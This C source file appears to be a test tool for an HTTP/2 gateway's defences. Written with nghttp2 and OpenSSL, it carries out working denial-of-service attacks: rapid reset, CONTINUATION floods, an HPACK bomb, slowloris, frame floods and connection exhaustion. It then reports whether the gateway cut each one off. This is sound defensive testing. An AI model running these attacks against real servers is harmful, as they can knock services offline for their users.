/*
 * h2abuse — a hostile HTTP/2 client for the security tests: it does on purpose, over real mTLS,
 * what curl never does, and reports whether the gateway cut it off.
 *
 *   h2abuse MODE --port N --cert F --key F --cacert F [--host H] [--count N] [--seconds S]
 *                [--path P] [--size BYTES] [--wait MS] [--no-length]
 *
 * Modes (each bounded by --count and --seconds):
 *   rapid-reset         streams opened and cancelled at once (CVE-2023-44487)
 *   continuation-flood  one HEADERS, then CONTINUATION frames without end (CVE-2024-27316)
 *   hpack-bomb          a 4 KB header put in the HPACK table, then referenced thousands of
 *                       times: a few KB on the wire decode to megabytes
 *   endless-headers     new literal headers in CONTINUATION frames, never END_HEADERS
 *   settings-flood      SETTINGS frames as fast as the socket takes them
 *   ping-flood          PING frames likewise
 *   slowloris           a request's header block sent one byte at a time, never finished
 *   idle                a connection that never sends a request
 *   no-handshake        TCP connected, no TLS ClientHello ever sent
 *   big-body            POST with a body larger than the limit, sent as long as allowed
 *   many-connections    --count connections with one certificate, all held open
 *   reuse               GET --path, wait --wait ms, GET again on the same connection
 *
 * Prints one line `mode=... result=... key=value...` and exits 0 when the gateway defended
 * itself as it should (cut, refused, 413; for reuse: both answers 200), 1 when it did not within
 * the bounds, 2 on a set-up error (cannot connect, bad arguments).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <nghttp2/nghttp2.h>
#include <openssl/err.h>
#include <openssl/ssl.h>

#define IN_MAX (1 << 20)       /* decrypted input not yet parsed into frames */
#define FRAME_HDR 9
#define MAX_FRAME 16384        /* SETTINGS_MAX_FRAME_SIZE default: we never send larger */
#define BATCH 64               /* frames written between two looks at the input */
#define MAX_CONNS 1024         /* many-connections */
#define HEADER_BLOCK_MAX 4096  /* an ordinary request's header block */
#define BOMB_VALUE 4000        /* fits the default 4096-byte HPACK table with its name */
#define BOMB_NAME "x-bomb"
#define FLOOD_VALUE 100        /* continuation-flood: small headers, many frames */
#define ENDLESS_VALUE 12000    /* endless-headers: big headers, few frames */
#define PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#define DEFAULT_WINDOW 65535
#define SLOW_STEP_MS 400       /* slowloris: one byte this often */
#define SETTLE_MS 300          /* many-connections: how long a refusal may take to arrive */

enum { EXIT_DEFENDED = 0, EXIT_TOLERATED = 1, EXIT_SETUP = 2 };

typedef struct opts {
    const char *mode, *host, *cert, *key, *cacert, *path;
    int port;
    long count, seconds, wait_ms;
    long long size;
    bool no_length;
} opts;

typedef struct cli {
    int fd;
    SSL_CTX *ctx;
    SSL *ssl;
    uint8_t *in;
    size_t in_len;
    bool closed;          /* EOF, reset or a TLS error: the server hung up */
    bool goaway;
    uint32_t goaway_code;
    char goaway_debug[128];
    int status[2];        /* :status of streams 1 and 3 (reuse) or the last one seen */
    int last_status;
    int32_t last_status_stream;
    long rst_received;
    int acks_owed;         /* SETTINGS ACKs to send at the next frame boundary */
    bool mid_frame;        /* slowloris: a frame is half sent, nothing may come between */
    int64_t send_window;   /* connection-level, for big-body */
    int64_t stream_window; /* stream 1's */
    int64_t initial_window;
    nghttp2_hd_deflater *def;
    nghttp2_hd_inflater *inf;
} cli;

/* ---- time and small helpers ------------------------------------------------------------------ */

static int64_t
now_ms(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void
put32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)(v >> 24), p[1] = (uint8_t)(v >> 16), p[2] = (uint8_t)(v >> 8),
    p[3] = (uint8_t)v;
}

static uint32_t
get32(const uint8_t *p)
{
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

/* A frame header at p: length, type, flags, stream id. */
static void
frame_hdr(uint8_t *p, size_t len, uint8_t type, uint8_t flags, int32_t id)
{
    p[0] = (uint8_t)(len >> 16), p[1] = (uint8_t)(len >> 8), p[2] = (uint8_t)len;
    p[3] = type;
    p[4] = flags;
    put32(p + 5, (uint32_t)id & 0x7fffffffu);
}

/* An HPACK integer with an n-bit prefix (RFC 7541 5.1); returns bytes written. */
static size_t
hpack_int(uint8_t *p, uint8_t first, unsigned prefix_bits, size_t v)
{
    size_t max = (1u << prefix_bits) - 1, n = 0;

    if (v < max) {
        p[n++] = (uint8_t)(first | v);
        return n;
    }
    p[n++] = (uint8_t)(first | max);
    for (v -= max; v >= 128; v >>= 7)
        p[n++] = (uint8_t)(v % 128 + 128);
    p[n++] = (uint8_t)v;
    return n;
}

/* A literal header, new name; `first` 0x00 (not indexed) or 0x40 (incremental indexing). */
static size_t
hpack_literal(uint8_t *p, uint8_t first, const char *name, const char *value, size_t vlen)
{
    size_t n = 0, nlen = strlen(name);

    p[n++] = first;
    n += hpack_int(p + n, 0, 7, nlen);
    memcpy(p + n, name, nlen);
    n += nlen;
    n += hpack_int(p + n, 0, 7, vlen);
    memcpy(p + n, value, vlen);
    return n + vlen;
}

/* ---- TLS ------------------------------------------------------------------------------------- */

static int
tcp_connect(const opts *o)
{
    struct addrinfo hints = {.ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM}, *ai = NULL;
    char port[8];
    int fd = -1, one = 1;

    snprintf(port, sizeof port, "%d", o->port);
    if (getaddrinfo(o->host, port, &hints, &ai) != 0)
        return -1;
    fd = socket(ai->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd >= 0 && connect(fd, ai->ai_addr, ai->ai_addrlen) != 0) {
        close(fd);
        fd = -1;
    }
    freeaddrinfo(ai);
    if (fd >= 0)
        setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    return fd;
}

static SSL_CTX *
client_ctx(const opts *o)
{
    static const unsigned char alpn[] = {2, 'h', '2'};
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());

    if (ctx == NULL || SSL_CTX_use_certificate_chain_file(ctx, o->cert) != 1 ||
        SSL_CTX_use_PrivateKey_file(ctx, o->key, SSL_FILETYPE_PEM) != 1 ||
        SSL_CTX_load_verify_locations(ctx, o->cacert, NULL) != 1 ||
        SSL_CTX_set_alpn_protos(ctx, alpn, sizeof alpn) != 0) {
        SSL_CTX_free(ctx);
        return NULL;
    }
    SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);
    SSL_CTX_set_mode(ctx, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
    return ctx;
}

static void
cli_free(cli *c)
{
    if (c->ssl != NULL)
        SSL_free(c->ssl);
    SSL_CTX_free(c->ctx);
    if (c->fd >= 0)
        close(c->fd);
    nghttp2_hd_deflate_del(c->def);
    nghttp2_hd_inflate_del(c->inf);
    free(c->in);
    memset(c, 0, sizeof *c);
    c->fd = -1;
}

/* TLS up with ALPN h2 (a blocking handshake, bounded by SO_RCVTIMEO), then non-blocking. */
static int
cli_connect(cli *c, const opts *o)
{
    struct timeval tv = {5, 0};
    const unsigned char *proto = NULL;
    unsigned int plen = 0;

    memset(c, 0, sizeof *c);
    c->initial_window = c->stream_window = c->send_window = DEFAULT_WINDOW;
    c->in = malloc(IN_MAX);
    c->fd = tcp_connect(o);
    if (c->in == NULL || c->fd < 0 || (c->ctx = client_ctx(o)) == NULL ||
        (c->ssl = SSL_new(c->ctx)) == NULL || SSL_set_fd(c->ssl, c->fd) != 1)
        return -1;
    setsockopt(c->fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    SSL_set_tlsext_host_name(c->ssl, "localhost");
    if (SSL_connect(c->ssl) != 1)
        return -1;
    SSL_get0_alpn_selected(c->ssl, &proto, &plen);
    if (plen != 2 || memcmp(proto, "h2", 2) != 0)
        return -1;
    if (nghttp2_hd_deflate_new(&c->def, 4096) != 0 || nghttp2_hd_inflate_new(&c->inf) != 0)
        return -1;
    return fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);
}

/* ---- input: frames from the server ---------------------------------------------------------- */

static void
on_headers(cli *c, int32_t id, uint8_t flags, const uint8_t *p, size_t len)
{
    nghttp2_nv nv;
    int final = 0;

    if (flags & NGHTTP2_FLAG_PADDED) {
        if (len < 1 || p[0] >= len)
            return;
        len -= 1u + p[0];
        p++;
    }
    if (flags & NGHTTP2_FLAG_PRIORITY) {
        if (len < 5)
            return;
        p += 5, len -= 5;
    }
    while (len > 0 || !final) {
        int inflate_flags = 0;
        ssize_t n = nghttp2_hd_inflate_hd2(c->inf, &nv, &inflate_flags, p, len,
                                           (flags & NGHTTP2_FLAG_END_HEADERS) != 0);
        if (n < 0)
            return;
        p += n, len -= (size_t)n;
        if ((inflate_flags & NGHTTP2_HD_INFLATE_EMIT) && nv.namelen == 7 &&
            memcmp(nv.name, ":status", 7) == 0 && nv.valuelen == 3) {
            c->last_status = (nv.value[0] - '0') * 100 + (nv.value[1] - '0') * 10 +
                             (nv.value[2] - '0');
            c->last_status_stream = id;
            if (id == 1 || id == 3)
                c->status[id / 2] = c->last_status;
        }
        if (inflate_flags & NGHTTP2_HD_INFLATE_FINAL) {
            nghttp2_hd_inflate_end_headers(c->inf);
            final = 1;
        }
        if (n == 0 && !(inflate_flags & NGHTTP2_HD_INFLATE_EMIT))
            break;
    }
}

/* Answered later (cli_send): we may be in the middle of writing a frame right now. */
static void
on_settings(cli *c, uint8_t flags, const uint8_t *p, size_t len)
{
    if (flags & NGHTTP2_FLAG_ACK)
        return;
    for (size_t i = 0; i + 6 <= len; i += 6) {
        uint16_t id = (uint16_t)(p[i] << 8 | p[i + 1]);
        if (id == NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE) {
            int64_t v = get32(p + i + 2);
            c->stream_window += v - c->initial_window;
            c->initial_window = v;
        }
    }
    c->acks_owed++;
}

static void
on_frame(cli *c, const uint8_t *h, const uint8_t *p, size_t len)
{
    int32_t id = (int32_t)(get32(h + 5) & 0x7fffffffu);

    switch (h[3]) {
    case NGHTTP2_HEADERS:
        on_headers(c, id, h[4], p, len);
        break;
    case NGHTTP2_SETTINGS:
        on_settings(c, h[4], p, len);
        break;
    case NGHTTP2_RST_STREAM:
        c->rst_received++;
        break;
    case NGHTTP2_WINDOW_UPDATE:
        if (len == 4 && id == 0)
            c->send_window += get32(p) & 0x7fffffffu;
        else if (len == 4 && id == 1)
            c->stream_window += get32(p) & 0x7fffffffu;
        break;
    case NGHTTP2_GOAWAY:
        c->goaway = true;
        if (len >= 8) {
            c->goaway_code = get32(p + 4);
            snprintf(c->goaway_debug, sizeof c->goaway_debug, "%.*s", (int)(len - 8), p + 8);
        }
        break;
    default:
        break;
    }
}

static void
parse_frames(cli *c)
{
    size_t off = 0;

    while (c->in_len - off >= FRAME_HDR) {
        const uint8_t *h = c->in + off;
        size_t len = (size_t)h[0] << 16 | (size_t)h[1] << 8 | h[2];
        if (c->in_len - off < FRAME_HDR + len)
            break;
        on_frame(c, h, h + FRAME_HDR, len);
        off += FRAME_HDR + len;
    }
    memmove(c->in, c->in + off, c->in_len - off);
    c->in_len -= off;
}

/* Read what is there (waiting up to wait_ms for the first byte); parse whole frames. */
static void
cli_pump(cli *c, int wait_ms)
{
    struct pollfd pfd = {.fd = c->fd, .events = POLLIN};
    int n;

    if (c->closed)
        return;
    if (SSL_pending(c->ssl) == 0 && poll(&pfd, 1, wait_ms) <= 0)
        return;
    for (;;) {
        if (c->in_len == IN_MAX)
            c->in_len = 0; /* a flood of replies we do not need: drop them */
        ERR_clear_error();
        n = SSL_read(c->ssl, c->in + c->in_len, (int)(IN_MAX - c->in_len));
        if (n > 0) {
            c->in_len += (size_t)n;
            parse_frames(c);
            continue;
        }
        int e = SSL_get_error(c->ssl, n);
        if (e != SSL_ERROR_WANT_READ && e != SSL_ERROR_WANT_WRITE)
            c->closed = true;
        return;
    }
}

/* Write all of p, reading meanwhile so that the server's replies never block us both. -1 when
 * the connection is gone, -2 at the deadline. */
static int
send_raw(cli *c, const uint8_t *p, size_t n, int64_t deadline)
{
    while (n > 0 && !c->closed) {
        ERR_clear_error();
        int w = SSL_write(c->ssl, p, (int)n);
        if (w > 0) {
            p += w, n -= (size_t)w;
            continue;
        }
        int e = SSL_get_error(c->ssl, w);
        if (e != SSL_ERROR_WANT_WRITE && e != SSL_ERROR_WANT_READ) {
            c->closed = true;
            break;
        }
        if (now_ms() >= deadline)
            return -2;
        struct pollfd pfd = {.fd = c->fd, .events = POLLIN | POLLOUT};
        if (poll(&pfd, 1, 50) > 0 && (pfd.revents & (POLLIN | POLLHUP | POLLERR)))
            cli_pump(c, 0);
    }
    return c->closed ? -1 : 0;
}

/* Whole frames (or, mid_frame, the next bytes of one); owed ACKs go first, between frames. */
static int
cli_send(cli *c, const uint8_t *p, size_t n, int64_t deadline)
{
    uint8_t ack[FRAME_HDR];

    frame_hdr(ack, 0, NGHTTP2_SETTINGS, NGHTTP2_FLAG_ACK, 0);
    while (c->acks_owed > 0 && !c->mid_frame) {
        c->acks_owed--;
        if (send_raw(c, ack, sizeof ack, deadline) != 0)
            return -1;
    }
    return send_raw(c, p, n, deadline);
}

static bool
cut(const cli *c)
{
    return c->closed || c->goaway;
}

/* Wait until the server cuts us off or the deadline. */
static void
await_cut(cli *c, int64_t deadline)
{
    while (!cut(c) && now_ms() < deadline)
        cli_pump(c, 100);
}

/* ---- requests ------------------------------------------------------------------------------- */

static int
send_preface(cli *c)
{
    uint8_t buf[sizeof PREFACE - 1 + FRAME_HDR + 6];
    size_t n = sizeof PREFACE - 1;

    memcpy(buf, PREFACE, n);
    frame_hdr(buf + n, 6, NGHTTP2_SETTINGS, 0, 0);
    buf[n + 9] = 0, buf[n + 10] = NGHTTP2_SETTINGS_ENABLE_PUSH;
    put32(buf + n + 11, 0);
    return cli_send(c, buf, sizeof buf, now_ms() + 5000);
}

/* A request's header block through the deflater (its table stays in step with the server). */
static size_t
request_block(cli *c, const opts *o, const char *method, uint8_t *out, size_t cap, bool body)
{
    char len[24];
    nghttp2_nv nv[6];
    size_t n = 0;

#define NV(k, v) (nghttp2_nv){(uint8_t *)(k), (uint8_t *)(v), strlen(k), strlen(v), 0}
    nv[n++] = NV(":method", method);
    nv[n++] = NV(":scheme", "https");
    nv[n++] = NV(":authority", "localhost");
    nv[n++] = NV(":path", o->path);
    if (body) {
        nv[n++] = NV("content-type", "application/json");
        snprintf(len, sizeof len, "%lld", o->size);
        if (!o->no_length)
            nv[n++] = NV("content-length", len);
    }
#undef NV
    ssize_t r = nghttp2_hd_deflate_hd(c->def, out, cap, nv, n);
    return r < 0 ? 0 : (size_t)r;
}

static int
send_get(cli *c, const opts *o, int32_t id, int64_t deadline)
{
    uint8_t buf[FRAME_HDR + HEADER_BLOCK_MAX];
    size_t n = request_block(c, o, "GET", buf + FRAME_HDR, HEADER_BLOCK_MAX, false);

    frame_hdr(buf, n, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS | NGHTTP2_FLAG_END_STREAM, id);
    return cli_send(c, buf, FRAME_HDR + n, deadline);
}

/* ---- modes ---------------------------------------------------------------------------------- */

static int
report(const char *mode, const cli *c, bool defended, const char *extra)
{
    printf("mode=%s result=%s goaway=%d code=%u debug=\"%s\" closed=%d %s\n", mode,
           defended ? "cut" : "tolerated", c->goaway, c->goaway_code, c->goaway_debug, c->closed,
           extra);
    return defended ? EXIT_DEFENDED : EXIT_TOLERATED;
}

static int
mode_rapid_reset(cli *c, const opts *o, int64_t deadline)
{
    uint8_t rst[FRAME_HDR + 4];
    long sent = 0;
    char extra[64];

    while (sent < o->count && !cut(c) && now_ms() < deadline) {
        for (int b = 0; b < BATCH && sent < o->count; b++, sent++) {
            int32_t id = (int32_t)(1 + 2 * sent);
            if (send_get(c, o, id, deadline) != 0)
                break;
            frame_hdr(rst, 4, NGHTTP2_RST_STREAM, 0, id);
            put32(rst + FRAME_HDR, NGHTTP2_CANCEL);
            if (cli_send(c, rst, sizeof rst, deadline) != 0)
                break;
        }
        cli_pump(c, 0);
    }
    await_cut(c, now_ms() + 1000 < deadline ? now_ms() + 1000 : deadline);
    snprintf(extra, sizeof extra, "streams=%ld", sent);
    return report(o->mode, c, cut(c), extra);
}

/* HEADERS without END_HEADERS, then CONTINUATIONs: `literal` fills each with a new header
 * (endless headers), else each is one small repeated header (the CVE-2024-27316 shape). */
static int
mode_continuation(cli *c, const opts *o, int64_t deadline, bool literal)
{
    static uint8_t buf[FRAME_HDR + MAX_FRAME];
    static char value[ENDLESS_VALUE];
    char extra[64];
    long frames = 0;
    size_t n = request_block(c, o, "GET", buf + FRAME_HDR, HEADER_BLOCK_MAX, false);

    memset(value, 'a', sizeof value);
    frame_hdr(buf, n, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_STREAM, 1);
    if (cli_send(c, buf, FRAME_HDR + n, deadline) != 0)
        goto out;
    while (frames < o->count && !cut(c) && now_ms() < deadline) {
        char name[32];
        snprintf(name, sizeof name, literal ? "x-endless-%ld" : "x-flood", frames);
        n = hpack_literal(buf + FRAME_HDR, 0x00, name, value, literal ? ENDLESS_VALUE : FLOOD_VALUE);
        frame_hdr(buf, n, NGHTTP2_CONTINUATION, 0, 1);
        if (cli_send(c, buf, FRAME_HDR + n, deadline) != 0)
            break;
        if (++frames % BATCH == 0)
            cli_pump(c, 0);
    }
out:
    await_cut(c, now_ms() + 1000 < deadline ? now_ms() + 1000 : deadline);
    snprintf(extra, sizeof extra, "frames=%ld", frames);
    return report(o->mode, c, cut(c), extra);
}

/* One header block: the pseudo-headers from the static table, a BOMB_VALUE header added to
 * the dynamic table, then as many one-byte references to it as fit in a frame. */
static size_t
bomb_block(uint8_t *p, size_t cap, const opts *o, bool first)
{
    static char value[BOMB_VALUE];
    size_t n = 0;

    memset(value, 'b', sizeof value);
    p[n++] = 0x82; /* :method GET */
    p[n++] = 0x87; /* :scheme https */
    n += hpack_int(p + n, 0x00, 4, 1); /* :authority, literal, indexed name 1 */
    n += hpack_int(p + n, 0, 7, 9);
    memcpy(p + n, "localhost", 9), n += 9;
    n += hpack_int(p + n, 0x00, 4, 4); /* :path, literal, indexed name 4 */
    n += hpack_int(p + n, 0, 7, strlen(o->path));
    memcpy(p + n, o->path, strlen(o->path)), n += strlen(o->path);
    if (first)
        n += hpack_literal(p + n, 0x40, BOMB_NAME, value, sizeof value);
    while (n < cap)
        p[n++] = 0x80 | 62; /* indexed: the newest dynamic entry, the bomb */
    return n;
}

static int
mode_hpack_bomb(cli *c, const opts *o, int64_t deadline)
{
    static uint8_t buf[FRAME_HDR + MAX_FRAME];
    long streams = 0;
    char extra[64];

    while (streams < o->count && !cut(c) && now_ms() < deadline) {
        size_t n = bomb_block(buf + FRAME_HDR, MAX_FRAME, o, streams == 0);
        frame_hdr(buf, n, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS | NGHTTP2_FLAG_END_STREAM,
                  (int32_t)(1 + 2 * streams));
        if (cli_send(c, buf, FRAME_HDR + n, deadline) != 0)
            break;
        streams++;
        cli_pump(c, 10);
    }
    await_cut(c, now_ms() + 1000 < deadline ? now_ms() + 1000 : deadline);
    snprintf(extra, sizeof extra, "blocks=%ld decoded_per_block=~%dMB", streams,
             MAX_FRAME * BOMB_VALUE / (1 << 20));
    return report(o->mode, c, cut(c), extra);
}

/* SETTINGS or PING frames, BATCH per write. */
static int
mode_flood(cli *c, const opts *o, int64_t deadline, uint8_t type)
{
    uint8_t buf[BATCH * (FRAME_HDR + 8)];
    size_t one = type == NGHTTP2_PING ? FRAME_HDR + 8 : FRAME_HDR + 6, n = 0;
    long frames = 0;
    char extra[64];

    for (int b = 0; b < BATCH; b++, n += one) {
        frame_hdr(buf + n, one - FRAME_HDR, type, 0, 0);
        memset(buf + n + FRAME_HDR, 0, one - FRAME_HDR);
        if (type == NGHTTP2_SETTINGS) {
            buf[n + FRAME_HDR + 1] = NGHTTP2_SETTINGS_MAX_CONCURRENT_STREAMS;
            put32(buf + n + FRAME_HDR + 2, 100);
        }
    }
    while (frames < o->count && !cut(c) && now_ms() < deadline) {
        if (cli_send(c, buf, n, deadline) != 0)
            break;
        frames += BATCH;
        cli_pump(c, 0);
    }
    await_cut(c, now_ms() + 1000 < deadline ? now_ms() + 1000 : deadline);
    snprintf(extra, sizeof extra, "frames=%ld", frames);
    return report(o->mode, c, cut(c), extra);
}

/* A complete-looking HEADERS frame whose payload arrives one byte per SLOW_STEP_MS and whose
 * last byte never does. */
static int
mode_slowloris(cli *c, const opts *o, int64_t deadline)
{
    uint8_t buf[FRAME_HDR + HEADER_BLOCK_MAX];
    int64_t start = now_ms();
    size_t n = request_block(c, o, "GET", buf + FRAME_HDR, HEADER_BLOCK_MAX, false), sent;
    char extra[64];

    frame_hdr(buf, n, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS | NGHTTP2_FLAG_END_STREAM, 1);
    /* The frame header at once (the stream exists from then on), the block byte by byte. */
    sent = FRAME_HDR + 1;
    if (cli_send(c, buf, sent, deadline) != 0)
        goto out;
    c->mid_frame = true;
    for (; sent < FRAME_HDR + n - 1 && !cut(c) && now_ms() < deadline; sent++) {
        cli_pump(c, SLOW_STEP_MS);
        if (cut(c) || cli_send(c, buf + sent, 1, deadline) != 0)
            break;
    }
out:
    await_cut(c, deadline);
    snprintf(extra, sizeof extra, "bytes=%zu after_ms=%lld", sent,
             (long long)(now_ms() - start));
    return report(o->mode, c, cut(c), extra);
}

static int
mode_idle(cli *c, const opts *o, int64_t deadline)
{
    int64_t start = now_ms();
    char extra[64];

    await_cut(c, deadline);
    snprintf(extra, sizeof extra, "after_ms=%lld", (long long)(now_ms() - start));
    return report(o->mode, c, cut(c), extra);
}

/* DATA as fast as flow control lets us, until the 413 (or the deadline). */
static int
mode_big_body(cli *c, const opts *o, int64_t deadline)
{
    static uint8_t buf[FRAME_HDR + MAX_FRAME];
    long long sent = 0, at_answer = -1;
    char extra[160];
    size_t n = request_block(c, o, "POST", buf + FRAME_HDR, HEADER_BLOCK_MAX, true);

    frame_hdr(buf, n, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS, 1);
    if (cli_send(c, buf, FRAME_HDR + n, deadline) != 0)
        goto out;
    memset(buf + FRAME_HDR, '{', MAX_FRAME);
    while (sent < o->size && !c->closed && c->rst_received == 0 && now_ms() < deadline) {
        if (c->status[0] != 0 && at_answer < 0)
            at_answer = sent;
        int64_t room = c->send_window < c->stream_window ? c->send_window : c->stream_window;
        size_t chunk = room < MAX_FRAME ? (size_t)(room < 0 ? 0 : room) : MAX_FRAME;
        if ((long long)chunk > o->size - sent)
            chunk = (size_t)(o->size - sent);
        if (chunk == 0) {
            cli_pump(c, 50);
            continue;
        }
        frame_hdr(buf, chunk, NGHTTP2_DATA, sent + (long long)chunk == o->size, 1);
        if (cli_send(c, buf, FRAME_HDR + chunk, deadline) != 0)
            break;
        sent += (long long)chunk;
        c->send_window -= (int64_t)chunk, c->stream_window -= (int64_t)chunk;
        cli_pump(c, 0);
    }
    cli_pump(c, 200);
out:
    if (at_answer < 0 && c->status[0] != 0)
        at_answer = sent;
    snprintf(extra, sizeof extra, "status=%d declared=%lld sent=%lld sent_at_answer=%lld rst=%ld",
             c->status[0], o->size, sent, at_answer, c->rst_received);
    /* Defended: the 413 came before the body was all sent, i.e. the gateway did not wait to
     * read it; what it drops afterwards is bounded (then the stream is reset: rst=1). */
    bool defended = c->status[0] == 413 && at_answer >= 0 && at_answer < o->size;
    printf("mode=%s result=%s %s\n", o->mode, defended ? "refused" : "tolerated", extra);
    return defended ? EXIT_DEFENDED : EXIT_TOLERATED;
}

static int
mode_reuse(cli *c, const opts *o, int64_t deadline)
{
    if (send_get(c, o, 1, deadline) == 0)
        while (c->status[0] == 0 && !c->closed && now_ms() < deadline)
            cli_pump(c, 100);
    printf("first=%d\n", c->status[0]);
    fflush(stdout);
    for (int64_t until = now_ms() + o->wait_ms; now_ms() < until && !c->closed;)
        cli_pump(c, 100); /* reads (and answers SETTINGS) while holding the connection */
    if (!c->closed && send_get(c, o, 3, deadline) == 0)
        while (c->status[1] == 0 && !c->closed && now_ms() < deadline)
            cli_pump(c, 100);
    printf("mode=reuse first=%d second=%d goaway=%d closed=%d\n", c->status[0], c->status[1],
           c->goaway, c->closed);
    return c->status[0] == 200 && c->status[1] == 200 ? EXIT_DEFENDED : EXIT_TOLERATED;
}

/* Connections opened one after another and held; each either serves (SETTINGS, nothing else)
 * or is refused (GOAWAY, close) within SETTLE_MS. */
static int
mode_many(const opts *o, int64_t deadline)
{
    static cli conns[MAX_CONNS];
    long n = o->count > MAX_CONNS ? MAX_CONNS : o->count, open_ok = 0, refused = 0, failed = 0;

    for (long i = 0; i < n && now_ms() < deadline; i++) {
        cli *c = &conns[i];
        if (cli_connect(c, o) != 0 || send_preface(c) != 0) {
            failed++;
            continue;
        }
        for (int64_t until = now_ms() + SETTLE_MS; !cut(c) && now_ms() < until;)
            cli_pump(c, 50);
        if (cut(c))
            refused++;
        else
            open_ok++;
    }
    printf("mode=many-connections result=%s attempted=%ld served=%ld refused=%ld failed=%ld\n",
           refused > 0 ? "refused" : "tolerated", n, open_ok, refused, failed);
    for (long i = 0; i < n; i++)
        cli_free(&conns[i]);
    return refused > 0 ? EXIT_DEFENDED : EXIT_TOLERATED;
}

/* TCP only: the gateway must give up on a client that never says hello. */
static int
mode_no_handshake(const opts *o, int64_t deadline)
{
    int fd = tcp_connect(o);
    int64_t start = now_ms();
    char b;
    bool closed = false;

    if (fd < 0)
        return EXIT_SETUP;
    while (!closed && now_ms() < deadline) {
        struct pollfd pfd = {.fd = fd, .events = POLLIN};
        if (poll(&pfd, 1, 100) > 0)
            closed = read(fd, &b, 1) <= 0;
    }
    close(fd);
    printf("mode=no-handshake result=%s after_ms=%lld\n", closed ? "cut" : "tolerated",
           (long long)(now_ms() - start));
    return closed ? EXIT_DEFENDED : EXIT_TOLERATED;
}

/* ---- main ----------------------------------------------------------------------------------- */

static int
number(const char *s, long long max, long long *out)
{
    long long v = 0;

    if (*s == '\0')
        return -1;
    for (; *s; s++) {
        if (*s < '0' || *s > '9' || v > (max - (*s - '0')) / 10)
            return -1;
        v = v * 10 + (*s - '0');
    }
    *out = v;
    return 0;
}

/* --name VALUE for a text option; 1 when `a` was one of them. */
static int
text_opt(opts *o, const char *a, const char *val)
{
    const struct {
        const char *name;
        const char **dst;
    } t[] = {{"--host", &o->host}, {"--cert", &o->cert}, {"--key", &o->key},
             {"--cacert", &o->cacert}, {"--path", &o->path}};

    for (size_t i = 0; i < sizeof t / sizeof t[0]; i++)
        if (strcmp(a, t[i].name) == 0)
            return *t[i].dst = val, 1;
    return 0;
}

/* --name N for a number option: 0 set, -1 unknown option or not a number. */
static int
number_opt(opts *o, const char *a, const char *val)
{
    long long v;

    if (number(val, 1LL << 40, &v) != 0)
        return -1;
    if (strcmp(a, "--port") == 0)
        o->port = v < 65536 ? (int)v : 0;
    else if (strcmp(a, "--count") == 0)
        o->count = (long)v;
    else if (strcmp(a, "--seconds") == 0)
        o->seconds = (long)v;
    else if (strcmp(a, "--size") == 0)
        o->size = v;
    else if (strcmp(a, "--wait") == 0)
        o->wait_ms = (long)v;
    else
        return -1;
    return 0;
}

static int
parse_args(opts *o, int argc, char **argv)
{
    *o = (opts){.host = "127.0.0.1", .path = "/healthz", .count = 10000, .seconds = 10,
                .size = 64LL << 20, .wait_ms = 2000};
    if (argc < 2)
        return -1;
    o->mode = argv[1];
    for (int i = 2; i < argc; i++) {
        if (strcmp(argv[i], "--no-length") == 0) {
            o->no_length = true;
            continue;
        }
        if (i + 1 >= argc)
            return -1;
        if (!text_opt(o, argv[i], argv[i + 1]) && number_opt(o, argv[i], argv[i + 1]) != 0)
            return -1;
        i++;
    }
    return o->port > 0 && o->seconds > 0 && o->seconds <= 120 ? 0 : -1;
}

static int
run_mode(cli *c, const opts *o, int64_t deadline)
{
    const char *m = o->mode;

    if (strcmp(m, "rapid-reset") == 0)
        return mode_rapid_reset(c, o, deadline);
    if (strcmp(m, "continuation-flood") == 0 || strcmp(m, "endless-headers") == 0)
        return mode_continuation(c, o, deadline, strcmp(m, "endless-headers") == 0);
    if (strcmp(m, "hpack-bomb") == 0)
        return mode_hpack_bomb(c, o, deadline);
    if (strcmp(m, "settings-flood") == 0 || strcmp(m, "ping-flood") == 0)
        return mode_flood(c, o, deadline, m[0] == 's' ? NGHTTP2_SETTINGS : NGHTTP2_PING);
    if (strcmp(m, "slowloris") == 0)
        return mode_slowloris(c, o, deadline);
    if (strcmp(m, "idle") == 0)
        return mode_idle(c, o, deadline);
    if (strcmp(m, "big-body") == 0)
        return mode_big_body(c, o, deadline);
    if (strcmp(m, "reuse") == 0)
        return mode_reuse(c, o, deadline);
    fprintf(stderr, "h2abuse: unknown mode %s\n", m);
    return EXIT_SETUP;
}

static int
run(const opts *o)
{
    int64_t deadline = now_ms() + o->seconds * 1000;
    cli c;
    int rc;

    if (strcmp(o->mode, "many-connections") == 0)
        return mode_many(o, deadline);
    if (strcmp(o->mode, "no-handshake") == 0)
        return mode_no_handshake(o, deadline);
    if (cli_connect(&c, o) != 0 || send_preface(&c) != 0) {
        fprintf(stderr, "h2abuse: cannot set up an HTTP/2 connection to %s:%d\n", o->host,
                o->port);
        cli_free(&c);
        return EXIT_SETUP;
    }
    cli_pump(&c, 100); /* the server's SETTINGS */
    rc = run_mode(&c, o, deadline);
    cli_free(&c);
    return rc;
}

int
main(int argc, char **argv)
